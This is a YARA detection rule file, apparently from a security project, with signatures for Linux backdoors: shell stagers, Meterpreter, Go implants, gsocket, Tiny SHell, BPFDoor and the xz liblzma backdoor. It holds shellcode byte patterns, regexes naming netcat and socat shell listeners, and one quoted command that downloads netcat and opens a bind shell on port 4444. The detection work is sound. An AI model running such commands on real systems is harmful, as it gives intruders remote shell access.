/*
 * Backdoor programs: implants, shells on a port, planted code in known libraries.
 */

rule WG_shell_stager {
  meta:
    id = "shell-stager"
    title = "Reverse shell stager (x86-64 machine code)"
    category = "backdoor"
    severity = "critical"
    confidence = 92
    attack = "T1059.004"
    subject = "program"
    reference = "https://docs.metasploit.com/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = { 6a 29 58 99 6a 02 5f 6a 01 5e 0f 05 48 97 48 b9 02 00 [6] 51 48 89 e6 6a 10 5a 6a 2a 58 0f 05 }
  condition:
    uint32(0) == 0x464c457f and $a and filesize < 2MB
}

rule WG_meterpreter_program {
  meta:
    id = "meterpreter-program"
    title = "Meterpreter (mettle)"
    category = "backdoor"
    severity = "critical"
    confidence = 92
    attack = "T1071,T1059.004"
    subject = "program"
    reference = "https://github.com/rapid7/mettle"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a1 = "core_negotiate_tlv_encryption"
    $a2 = "core_channel_open"
    $a3 = "stdapi_sys_process_execute"
    $a4 = "mettle -U"
    $a5 = "core_machine_id"
    $a6 = "stdapi_fs_ls"
  condition:
    uint32(0) == 0x464c457f and 3 of them
}

rule WG_go_implant {
  meta:
    id = "go-implant"
    title = "Command-and-control implant written in Go"
    category = "backdoor"
    severity = "critical"
    confidence = 90
    attack = "T1071,T1059.004"
    subject = "program"
    reference = "https://attack.mitre.org/software/S0633/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a1 = "github.com/bishopfox/sliver/implant"
    $a2 = "github.com/bishopfox/sliver/protobuf/sliverpb"
    $a3 = "github.com/Ne0nd0g/merlin-agent"
    $a4 = "github.com/Ne0nd0g/merlin/pkg/agent"
    $a5 = "github.com/WangYihang/Platypus/internal/agent"
    $a6 = "github.com/tiagorlampert/CHAOS/client"
    $a7 = "github.com/MythicAgents/"
  condition:
    uint32(0) == 0x464c457f and any of them
}

rule WG_gsocket_backdoor {
  meta:
    id = "gsocket-backdoor"
    title = "Global Socket netcat, a shell through a relay"
    category = "backdoor"
    severity = "high"
    confidence = 75
    attack = "T1219,T1059.004"
    subject = "program"
    reference = "https://www.gsocket.io/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a1 = "gs-netcat" fullword
    $a2 = "GSOCKET_ARGS"
    $a3 = "_GSOCKET_WANT_AUTHCOOKIE"
    $a4 = "gs.thc.org"
    $a5 = "GSOCKET_SECRET"
  condition:
    uint32(0) == 0x464c457f and 2 of them
}

rule WG_gsocket_deploy {
  meta:
    id = "gsocket-deploy"
    title = "Deploys Global Socket as a hidden service"
    category = "backdoor"
    severity = "high"
    confidence = 78
    attack = "T1219,T1543"
    subject = "text"
    reference = "https://www.gsocket.io/deploy"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = /g[s]ocket\.io\/[xy]["' |)]/
    $b = "G\x53_UNDO="
    $c = "g\x73-dbus" fullword
    $d = "d\x65funct" fullword
  condition:
    ($a or ($b and any of ($c,$d))) and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}

rule WG_tiny_shell {
  meta:
    id = "tiny-shell"
    title = "Tiny SHell backdoor"
    category = "backdoor"
    severity = "high"
    confidence = 85
    attack = "T1059.004"
    subject = "program"
    reference = "https://github.com/creaktive/tsh"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = "Usage: %s [ -c [ connect_back_host ] ] [ -s secret ] [ -p port ]"
    $b = "exec bash --login"
    $c = "get <source-file> <dest-dir>"
    $d = "put <source-file> <dest-dir>"
  condition:
    uint32(0) == 0x464c457f and ($a or 3 of them)
}

rule WG_bpfdoor_program {
  meta:
    id = "bpfdoor-program"
    title = "BPFDoor passive backdoor"
    category = "backdoor"
    severity = "critical"
    confidence = 90
    attack = "T1205,T1036.005"
    subject = "program"
    reference = "https://malpedia.caad.fkie.fraunhofer.de/details/elf.bpfdoor"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a1 = "/sbin/udevd -d" fullword
    $a2 = "/sbin/mingetty /dev/tty"
    $a3 = "/usr/sbin/console-kit-daemon --no-daemon"
    $a4 = "hald-addon-acpi: listening on acpi kernel interface /proc/acpi/event"
    $a5 = "pickup -l -t fifo -u"
    $a6 = "avahi-daemon: chroot helper"
    $a7 = "qmgr -l -t fifo -u"
    $a8 = "/usr/libexec/hald-addon"
    $a9 = "/var/run/haldrund.pid"
  condition:
    uint32(0) == 0x464c457f and 3 of them and filesize < 1MB
}

rule WG_xz_backdoor {
  meta:
    id = "xz-backdoor"
    title = "liblzma with the backdoor of xz 5.6.0 and 5.6.1"
    category = "backdoor"
    severity = "critical"
    confidence = 97
    attack = "T1195.002"
    subject = "program"
    reference = "https://www.openwall.com/lists/oss-security/2024/03/29/4"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = { f3 0f 1e fa 55 48 89 f5 4c 89 ce 53 89 fb 81 e7 00 00 00 80 48 83 ec 28 48 89 54 24 18 48 89 4c 24 10 }
  condition:
    uint32(0) == 0x464c457f and $a
}

rule WG_bind_shell_stager {
  meta:
    id = "bind-shell-stager"
    title = "Bind shell stager (x86-64 machine code)"
    category = "backdoor"
    severity = "critical"
    confidence = 92
    attack = "T1059.004"
    subject = "program"
    reference = "https://docs.metasploit.com/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = { 6a 29 58 99 6a 02 5f 6a 01 5e 0f 05 48 97 52 c7 04 24 02 00 [2] 48 89 e6 6a 10 5a 6a 31 58 0f 05 6a 32 58 0f 05 }
    $b = { 31 db f7 e3 53 43 53 6a 02 89 e1 b0 66 cd 80 }
  condition:
    uint32(0) == 0x464c457f and any of them and filesize < 256KB
}

rule WG_shell_listener {
  meta:
    id = "shell-listener"
    title = "Listens on a port and hands out a shell"
    category = "backdoor"
    severity = "high"
    confidence = 72
    attack = "T1059.004"
    subject = "text"
    reference = "https://attack.mitre.org/techniques/T1059/004/"
    date = "2026-11-23"
    author = "Waterguard"
    licence = "Apache-2.0"
  strings:
    $a = /(nc|ncat|netcat) -[a-z]{0,4}l[a-z]{0,4}[^\n;|]{0,40} (-e|--exec|-c) ?["']?(\/bin\/)?(ba)?sh( ?["';|&)\n]| -[il]| ?$)/
    $b = /socat [^\n]{0,20}(tcp|TCP|udp|UDP)[46]?-(listen|LISTEN|l|L):[0-9$]{1,6}[^\n]{0,60}(exec|EXEC|system|SYSTEM):["']?(\/bin\/)?(ba)?sh( ?["',;|&)\n]| -[il]| ?$)/
    $c = /(while true|while :)[^\n]{0,20};? ?do[^\n]{0,20}(nc|ncat) -l[^\n]{0,60}\| ?(\/bin\/)?(ba)?sh\b/
    // A line of usage in nmap's own script, as in `netcat-shell`.
    $nmap = "$ nmap -d -p6667 --script=irc-unrealircd-backdoor.nse --script-args=irc-unrealircd-backdoor.command='wget http://www.javaop.com/~ron/tmp/nc && chmod +x ./nc && ./nc -l -p 4444 -e /bin/sh' <target>"
  condition:
    (#a + #b + #c) > #nmap and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
}
